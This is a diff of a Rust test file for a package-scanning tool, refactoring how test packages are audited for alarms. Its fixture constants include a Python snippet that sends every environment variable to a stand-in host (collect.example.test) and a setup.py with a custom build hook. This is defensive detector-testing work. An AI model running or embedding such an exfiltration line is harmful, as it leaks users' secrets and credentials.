@@ -2,9 +2,9 @@
 //! take others' places, data files and a file's own text, recipes of builds, names of common commands. Each trigger with one
 //! inert payload, and its harmless twin. Hosts end in `.test`, addresses are from 203.0.113.0/24.
 
-use doorward_engine::{Audit, Lane, Setup, audit_files};
-use doorward_judge::{Policy, Rules};
-use doorward_model::{Level, Limits};
+mod shared;
+
+use doorward_model::Level;
 
 const SENDS: &str = "import os, json, urllib.request
 urllib.request.urlopen(urllib.request.Request(\"https://collect.example.test/e\", data=json.dumps(dict(os.environ)).encode()))
@@ -24,26 +24,9 @@ class Native(build_ext):
 setup(name=\"lantern\", version=\"1.0\", cmdclass={\"build_ext\": Native})
 ";
 
-/// Audits files, each behind a line `-- path --`; gives the rules of all alarms.
+/// The rules of all alarms of a package.
 fn alarms(package: &str) -> Vec<String> {
-    let (limits, policy, rules) = (Limits::default(), Policy::default(), Rules::builtin());
-    let spill = std::env::temp_dir();
-    let audit = Audit { limits: &limits, rules: &rules, policy: &policy, yara: &[], spill: &spill };
-    let mut lane = Lane::here(Setup::new(&rules, &[], &limits, false)).expect("the observers compile");
-    let mut files: Vec<(&str, String)> = Vec::new();
-    for line in package.lines() {
-        match line.strip_prefix("-- ").and_then(|rest| rest.strip_suffix(" --")) {
-            Some(path) => files.push((path, String::new())),
-            None => {
-                if let Some((_, text)) = files.last_mut() {
-                    text.push_str(line);
-                    text.push('\n');
-                }
-            }
-        }
-    }
-    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
-    let report = audit_files(&audit, &files, &mut lane).expect("the files are audited");
+    let report = shared::audit(package);
     let found = report.judgement.findings.iter().filter(|finding| finding.level == Level::Alarm);
     found.map(|finding| finding.rule.to_string()).collect()
 }
